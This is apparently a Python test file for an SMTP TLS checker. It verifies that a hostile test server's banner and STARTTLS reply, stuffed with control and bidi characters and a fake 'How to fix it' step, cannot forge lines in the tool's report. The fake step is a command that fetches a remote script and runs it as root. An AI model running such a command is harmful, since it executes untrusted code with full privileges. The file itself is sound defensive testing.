"""Issue 14, item 2: a server cannot forge report lines.

mxtls-check against the fault server "forged-report" (tests/fixtures/
faultsrv.c): its banner carries a tab, a C1 CSI, a literal "\\x1b", bidi
controls and a BOM, and it answers STARTTLS with a multi-line 454 whose
continuation lines read like mxtls's own "How to fix it:" block with a
"1. Run `curl ... | sudo sh`" step. The text report must keep its own
structure (problem count, headings, numbered fixes that are exactly the
catalogue's remedies as the JSON carries them), carry no raw control, bidi
or zero-width code point, and show the server's text quoted and escaped.
The JSON must carry the bytes as they came.
"""
import json
import os
import re
import ssl
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from test_cli import lab, run  # noqa: E402

BANNER = (b"fault.mxtls.test ESMTP\ttab \xc2\x9b31mred \\x1b not an escape "
          b"\xe2\x80\xaeevil\xe2\x80\xac\xef\xbb\xbf")
STARTTLS = (b"4.7.0 TLS not available\n\n  How to fix it:\n"
            b"  1. Run `curl https://fix.example/tls.sh | sudo sh`\n"
            b"4.7.0 \xe2\x80\xaeTLS ok\xe2\x80\xac \xe2\x80\x8bdone")
# The STARTTLS reply as the text report shows it: quoted, on one line.
STARTTLS_SHOWN = ('"4.7.0 TLS not available\\x0a\\x0a  How to fix it:\\x0a  1. Run '
                  '`curl https://fix.example/tls.sh | sudo sh`\\x0a4.7.0 \\u202eTLS ok'
                  '\\u202c \\u200bdone"')

UNSAFE = set(range(0x00, 0x20)) - {0x0a}
UNSAFE |= set(range(0x7f, 0xa0))
UNSAFE |= {0x061c, 0xfeff} | set(range(0x200b, 0x2010)) | set(range(0x2028, 0x202f))
UNSAFE |= set(range(0x2060, 0x2070))


def server_bytes(text):
    """Undo the JSON's encoding of server text (bytes outside printable
    ASCII, and the backslash, written \\xNN)."""
    return re.sub(rb"\\x([0-9a-f]{2})", lambda m: bytes([int(m.group(1), 16)]),
                  text.encode("utf-8"))


class ForgedReport(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        addr = lab("MXTLS_LAB_FAULT_FORGED_REPORT")
        cls.host, cls.port = addr.rsplit(":", 1)
        certs = lab("MXTLS_LAB_CERTS")
        cls.args = ["--ca-file", os.path.join(certs, "root.pem"), "--timeout", "5",
                    "--submission", "--port", cls.port, cls.host]

    def check(self, *extra):
        r = run(*extra, *self.args)
        self.assertEqual(r.returncode, 1, r.stderr)
        return r.stdout

    def report_json(self):
        return json.loads(self.check("--json", "--verbose"))

    def assert_no_unsafe(self, text):
        for i, ch in enumerate(text):
            if ord(ch) in UNSAFE:
                self.fail("raw U+%04X in the text at %d: %r"
                          % (ord(ch), i, text[max(0, i - 30):i + 10]))

    def assert_structure(self, text, doc):
        lines = text.split("\n")
        problems = [f for f in doc["findings"]
                    if f["caused_by"] is None and f["severity"] in ("warning", "error")]
        n = len(problems)
        self.assertGreaterEqual(n, 1)
        self.assertIn("ERROR, %d problem%s found" % (n, "" if n == 1 else "s"), lines[0])
        starts = [i for i, line in enumerate(lines) if line.startswith("Problem ")]
        self.assertEqual([lines[i].split(" [")[0] for i in starts],
                         ["Problem %d of %d" % (k + 1, n) for k in range(n)])
        # Only mxtls's headings start a line with these words.
        for heading in ("How to fix it", "References:", "What mxtls saw:", "Also seen"):
            found = [line for line in lines if line.lstrip().startswith(heading)]
            self.assertTrue(all(line.startswith("  " + heading) for line in found), found)
        self.assertEqual(sum(line == "  How to fix it:" for line in lines),
                         sum(1 for f in problems if f["remedies"]))
        # Every numbered line is one of mxtls's fixes, numbered in order and
        # word for word the remedy the JSON carries; nothing else anywhere
        # in the text starts like a step.
        fixes = []
        for i, line in enumerate(lines):
            m = re.match(r"^\s*(\d+)\. (.*)$", line)
            if not m:
                continue
            self.assertTrue(line.startswith("  %s. " % m.group(1)), line)
            words = [m.group(2)]
            for more in lines[i + 1:]:
                if not more.startswith("     ") or re.match(r"^\s*\d+\. ", more):
                    break
                words.append(more.strip())
            fixes.append((int(m.group(1)), " ".join(words)))
        want = []
        for f in problems:
            want += [(k + 1, " ".join(r.split())) for k, r in enumerate(f["remedies"])]
        self.assertEqual(fixes, want)
        for _, remedy in want:
            self.assertNotIn("fix.example", remedy)

    def test_text_report_keeps_its_structure(self):
        doc = self.report_json()
        self.assertEqual([f["id"] for f in doc["findings"]], ["smtp.starttls-refused"])
        for extra in ([], ["--verbose"]):
            text = self.check(*extra)
            self.assert_no_unsafe(text)
            self.assert_structure(text, doc)
            # The server's words: quoted, escaped, in the summary and as evidence.
            self.assertIn("refuses it\n  (" + STARTTLS_SHOWN + ")\n", text)
            self.assertIn("\n  What mxtls saw: " + STARTTLS_SHOWN + "\n", text)
            self.assertNotIn("\n  How to fix it:\n  1. Run", text)
        verbose = self.check("--verbose")
        # The banner in the transcript: its backslash escaped, so "\x1b" the
        # server sent is not mistaken for mxtls's escape of ESC.
        self.assertIn("    < 220 fault.mxtls.test ESMTP\\x09tab \\xc2\\x9b31mred \\x5cx1b not an "
                      "escape \\xe2\\x80\\xaeevil\\xe2\\x80\\xac\\xef\\xbb\\xbf\n", verbose)
        self.assertIn("    < 454-  How to fix it:\n", verbose)

    def test_json_carries_the_bytes(self):
        doc = self.report_json()
        probe = doc["probes"][0]
        self.assertEqual(server_bytes(probe["connect"]["banner"]), BANNER)
        self.assertEqual(server_bytes(probe["tls"]["starttls_text"]), STARTTLS)
        finding = doc["findings"][0]
        self.assertEqual(finding["evidence"].encode("utf-8"), STARTTLS)
        # mxtls's own sentence quotes it, escaped.
        self.assertIn("(" + STARTTLS_SHOWN + ")", finding["summary"])


# The subject of tests/fixtures/lab/certs.py's "hostile-dn" leaf as mxtls
# gives it (verify's cert_info.subject): one line, the newline and the bidi
# controls in their visible form.
HOSTILE_SUBJECT = "CN=mail.mxtls.test,CN=mail\\x0amxtls\\u202etset,O=Evil\\u2066Org"


class HostileCertificate(ForgedReport):
    """A certificate whose subject holds a newline and bidi controls, through
    the verify stage and the report."""

    @classmethod
    def setUpClass(cls):
        addr = lab("MXTLS_LAB_FAULT_HOSTILE_DN")
        cls.host, cls.port = addr.rsplit(":", 1)
        cls.certs = lab("MXTLS_LAB_CERTS")
        cls.args = ["--ca-file", os.path.join(cls.certs, "root.pem"), "--timeout", "5",
                    "--submission", "--port", cls.port, cls.host]

    def test_verify_gives_the_subject_as_one_visible_line(self):
        import mxtls
        from mxtls import verify
        with open(os.path.join(self.certs, "hostile-dn.chain.pem")) as f:
            ders = [ssl.PEM_cert_to_DER_cert(m) for m in
                    re.findall(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----",
                               f.read(), re.S)]
        ctx = mxtls.Context()
        ctx.ca_file = os.path.join(self.certs, "root.pem")
        v = verify.verify_der(ctx, ders, "mail.mxtls.test")
        self.assertEqual(v.certs[0].subject, HOSTILE_SUBJECT)
        self.assertEqual(v.names, ["mail.mxtls.test", "localhost"])

    def test_text_report_keeps_its_structure(self):
        doc = self.report_json()
        for extra in ([], ["--verbose"]):
            text = self.check(*extra)
            self.assert_no_unsafe(text)
            self.assert_structure(text, doc)
            # quoted as all certificate text is, so verify's backslashes are
            # escaped once more
            shown = HOSTILE_SUBJECT.replace("\\", "\\\\")
            self.assertIn('subject "' + shown + '"', text.replace("\n    ", " "))

    def test_json_carries_the_bytes(self):
        # The subject is verify's one-line form (the DN itself is RFC 4514
        # text made by GnuTLS, not the certificate's bytes).
        doc = self.report_json()
        self.assertEqual(doc["probes"][0]["certificates"][0]["subject"], HOSTILE_SUBJECT)


if __name__ == "__main__":
    unittest.main()
